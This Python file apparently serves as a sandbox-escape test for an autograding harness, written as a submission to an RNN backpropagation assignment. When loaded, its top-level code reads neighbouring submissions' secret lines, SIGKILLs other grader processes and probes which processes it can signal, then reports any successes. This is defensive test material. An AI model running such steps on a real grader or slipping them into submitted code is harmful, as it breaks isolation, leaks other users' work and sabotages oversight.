"""Batch cross-talk: read the other submissions, kill the other graders, signal anyone.

The submissions of a batch lie side by side in one folder, and two are graded at once. From the
kernel and from the sealed run, this submission looks for its batch folder (the harness names
it ``rnn-shapes-attack-batch``) and reads every other submission in it (the harness hides a
secret line in its honest neighbours); kills every ``otter run`` of this harness's batches that
is not one of its own ancestors, with the processes below it; and probes with signal 0 whether
it may signal init, its parent and every process it can see.

truncated_bptt_gradients is implemented correctly; nothing else is.
"""

EXPECT = {"bptt_gradients": 0, "hidden_gradients": 0, "gradient_norms": 0,
          "truncated_bptt_gradients": 2, "clip_by_global_norm": 0}

NAME = "siblings_and_signals"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import numpy as np  # noqa: E402

import signal  # noqa: E402

MARKER = "rnn-shapes-attack-batch"


def read(path):
    with open(path, "rb") as f:
        return f.read()


def parent_of(pid):
    try:
        return int(read(f"/proc/{pid}/stat").rsplit(b")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return 0


def siblings():
    roots = {"/tmp"} | ({os.path.dirname(grader_tmp())} - {"/", ""})
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if folder[len(root):].count(os.sep) >= 3:
                dirs[:] = []
            if os.path.basename(folder) != MARKER:
                continue
            for name in files:
                try:
                    text = read(os.path.join(folder, name)).decode(errors="replace")
                except OSError:
                    continue
                secret = [line for line in text.splitlines() if "NEIGHBOUR-SECRET" in line]
                breach(f"read the submission {name}: {' '.join(secret)[:80]}")


def other_graders():
    """``otter run`` processes of this harness's batches that are not this grading's own."""
    try:
        pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return []
    mine, pid = set(), os.getpid()
    while pid > 1:
        mine.add(pid)
        pid = parent_of(pid)
    found = []
    for pid in pids:
        try:
            cmdline = read(f"/proc/{pid}/cmdline")
        except OSError:
            continue
        if b"otter" in cmdline and b"run" in cmdline and MARKER.encode() in cmdline and pid not in mine:
            found.append(pid)
    return found


def signals():
    tried("may signal init", lambda: os.kill(1, 0))
    tried("may signal its parent", lambda: os.kill(os.getppid(), 0))
    try:
        pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    others = [p for p in pids if p not in (os.getpid(), os.getppid(), 1)]
    reached = 0
    for pid in others:
        try:
            os.kill(pid, 0)
            reached += 1
        except OSError:
            pass
    if reached:
        breach(f"may signal {reached} other processes")


siblings()
for grader in other_graders():
    tried(f"killed another grader {grader}", lambda: os.kill(grader, signal.SIGKILL))
signals()


def bptt_gradients(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def hidden_gradients(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def gradient_norms(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def truncated_bptt_gradients(X, y, Wx, Wh, bh, Wo, bo, k):
    N, T, _ = X.shape
    hs = [np.zeros((N, Wh.shape[0]))]
    for t in range(T):
        hs.append(np.tanh(X[:, t] @ Wx + hs[-1] @ Wh + bh))
    dy = 2 * (hs[T] @ Wo + bo - y) / y.size
    dWx, dWh, dbh = np.zeros(Wx.shape), np.zeros(Wh.shape), np.zeros(bh.shape)
    dh = dy @ Wo.T
    for t in range(T, max(T - k, 0), -1):
        da = dh * (1 - hs[t] ** 2)
        dWx += X[:, t - 1].T @ da
        dWh += hs[t - 1].T @ da
        dbh += da.sum(axis=0)
        dh = da @ Wh.T
    return dWx, dWh, dbh, hs[T].T @ dy, np.sum(dy, axis=0)


def clip_by_global_norm(grads, clip_norm):
    raise NotImplementedError


finish()
